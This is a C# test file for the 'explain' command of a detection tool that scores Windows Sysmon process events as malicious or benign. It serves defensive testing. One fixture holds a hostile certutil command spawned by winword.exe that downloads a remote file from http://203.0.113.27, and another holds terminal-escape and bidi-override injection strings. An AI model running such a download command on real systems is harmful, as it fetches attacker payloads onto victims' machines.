using System.Text;
using System.Text.Json;
using Changeling.TestSupport;

namespace Changeling.Cli.Tests;

/// <summary>What <c>explain</c> says of one event.</summary>
public sealed class ExplainTests : IDisposable
{
    private static readonly byte[] Ordinary =
        Telemetry.Record("services.exe", "svchost.exe", @"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule");
    private static readonly byte[] Attack = Telemetry.Record(
        "winword.exe", "certutil.exe", @"certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt");
    private static readonly byte[] ProcessEnded =
        """{"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","event_id":"5","computer_name":"ws-0417"}}"""u8.ToArray();

    private readonly Scratch _folder = new();

    [Fact]
    public async Task The_only_event_of_a_file_is_explained_without_a_line()
    {
        _folder.Write("one.json", Attack);

        var text = (await Terminal.RunAsync(_folder, "explain", "one.json")).Succeeded().Output;

        Assert.Contains("winword.exe started certutil.exe on ws-0417", text, StringComparison.Ordinal);
        Assert.Contains("malicious: the model gives", text, StringComparison.Ordinal);
        Assert.Contains("No earlier launch by winword.exe is known.", text, StringComparison.Ordinal);
        Assert.Contains("http://203.0.113.27", text, StringComparison.Ordinal);
        Assert.Contains("process.command_line", text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_line_is_explained_with_what_came_before_it()
    {
        _folder.Write("events.jsonl", Lines([.. Enumerable.Repeat(Ordinary, 30), Attack, Ordinary]));

        var alone = await JsonAsync("events.jsonl:1");
        var after = await JsonAsync("events.jsonl:32");

        Assert.Equal((0, 30), (Number(alone, "rarity", "parent_count"), Number(after, "rarity", "parent_count")));
        Assert.Equal(Number(alone, "rarity", "score"), Number(after, "rarity_by_prior", "score"));
        Assert.Equal(32, after.GetProperty("line").GetInt32());
    }

    [Fact]
    public async Task Of_several_events_the_first_malicious_one_is_taken()
    {
        _folder.Write("events.jsonl.gz", Scratch.Gzip(Lines([Ordinary, ProcessEnded, Attack, Attack])));

        Assert.Equal(3, (await JsonAsync("events.jsonl.gz")).GetProperty("line").GetInt32());
    }

    [Fact]
    public async Task Of_ordinary_events_the_likeliest_is_taken_and_that_is_said()
    {
        _folder.Write("events.jsonl", Lines([Ordinary, Telemetry.Record("cmd.exe", "ipconfig.exe", "ipconfig /all"), Ordinary]));

        var text = (await Terminal.RunAsync(_folder, "explain", "events.jsonl")).Succeeded().Output;

        Assert.Contains(
            "events.jsonl:2, record 0 – the most likely one: the model classifies none as malicious", text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_record_of_a_message_is_chosen_by_its_index()
    {
        _folder.Write("events.json", Telemetry.Many(Attack, Ordinary));

        Assert.Equal(
            "svchost.exe",
            (await JsonAsync("events.json:1", "--record", "1")).GetProperty("event").GetProperty("process.name").GetString());
        Assert.Equal("certutil.exe", (await JsonAsync("events.json:1")).GetProperty("event").GetProperty("process.name").GetString());
    }

    [Fact]
    public async Task A_dash_is_standard_input_with_or_without_a_line()
    {
        var input = Lines([Ordinary, Attack]);

        var first = await Terminal.RunAsync(_folder, input, "explain", "-", "--json");
        var named = await Terminal.RunAsync(_folder, Scratch.Gzip(input), "explain", "-", "--line", "1", "--json");

        Assert.Equal([2, 1], new[] { first, named }.Select(o => Root(o.Succeeded()).GetProperty("line").GetInt32()));
    }

    [Fact]
    public async Task The_reasons_of_the_JSON_sum_to_the_margin_and_the_probability_is_that_of_score()
    {
        _folder.Write("one.json", Attack);

        var prediction = (await JsonAsync("one.json")).GetProperty("prediction");
        var score = Assert.Single(ScoreLine.Of(await Terminal.RunAsync(_folder, "score", "one.json")));

        var sum = prediction.GetProperty("reasons")
            .EnumerateArray()
            .Sum(r => r.GetProperty("weight").GetDouble()) + prediction.GetProperty("expectation")
            .GetDouble();
        Assert.Equal(prediction.GetProperty("margin").GetDouble(), sum, 1e-3);
        Assert.Equal(score.Probability, prediction.GetProperty("probability").GetDouble());
    }

    [Fact]
    public async Task A_control_character_or_a_turn_of_the_reading_direction_never_reaches_the_terminal()
    {
        _folder.Write(
            "one.json", Telemetry.Record("expl\u202eorer.exe", "a\u001b[31mb.exe", "a\u001b[31mb.exe \u009b2J \u202e [red]x[/] {0}"));

        var text = (await Terminal.RunAsync(_folder, "explain", "one.json")).Succeeded().Output;

        Assert.DoesNotContain(text, c => (char.IsControl(c) && c is not ('\n' or '\r')) || c == '\u202e');
        Assert.Contains(@"a\u001b[31mb.exe", text, StringComparison.Ordinal);
        Assert.Contains("[red]x[/] {0}", text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("events.jsonl:9", "events.jsonl starts at line 9", "starts at 3")]
    [InlineData("events.jsonl:0", "'0' is not a line of", "events.jsonl")]
    [InlineData("events.jsonl:2", "events.jsonl:2 is not a process creation (event 5)")]
    [InlineData("events.jsonl:3", "events.jsonl:3 cannot be read (not_json")]
    [InlineData("missing.jsonl:3", "missing.jsonl does not exist")]
    public async Task A_wrong_line_or_file_is_answered_in_a_sentence(string place, params string[] parts)
    {
        _folder.Write("events.jsonl", Lines([Ordinary, ProcessEnded, "rubbish"u8.ToArray()]));

        (await Terminal.RunAsync(_folder, "explain", place)).RefusedWith(parts);
    }

    [Fact]
    public async Task A_record_that_is_not_there_is_answered_with_how_many_there_are()
    {
        _folder.Write("events.json", Telemetry.Many(Attack, Ordinary));

        (await Terminal.RunAsync(_folder, "explain", "events.json:1", "--record", "7")).RefusedWith("has 2 records", "no record 7");
        (await Terminal.RunAsync(_folder, "explain", "events.json", "--record", "-1")).RefusedWith("--record", "'-1'");
    }

    [Fact]
    public async Task A_file_without_any_process_creation_says_so()
    {
        _folder.Write("ended.jsonl", ProcessEnded);
        _folder.Write("empty.jsonl", []);

        (await Terminal.RunAsync(_folder, "explain", "ended.jsonl")).RefusedWith("no process creation could be read from", "ended.jsonl");
        (await Terminal.RunAsync(_folder, "explain", "empty.jsonl")).RefusedWith("empty.jsonl: no event to explain");
    }

    public void Dispose() => _folder.Dispose();

    private static byte[] Lines(IEnumerable<byte[]> records) => [.. records.SelectMany(record => record.Append((byte)'\n'))];

    private static double Number(JsonElement root, string part, string name) => root.GetProperty(part).GetProperty(name).GetDouble();

    private static JsonElement Root(Outcome outcome)
    {
        Assert.DoesNotContain(Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(outcome.Output)), c => char.IsControl(c) && c is not '\n');
        return JsonDocument.Parse(outcome.Output).RootElement;
    }

    private async Task<JsonElement> JsonAsync(string place, params string[] options) =>
        Root((await Terminal.RunAsync(_folder, ["explain", place, "--json", .. options])).Succeeded());
}
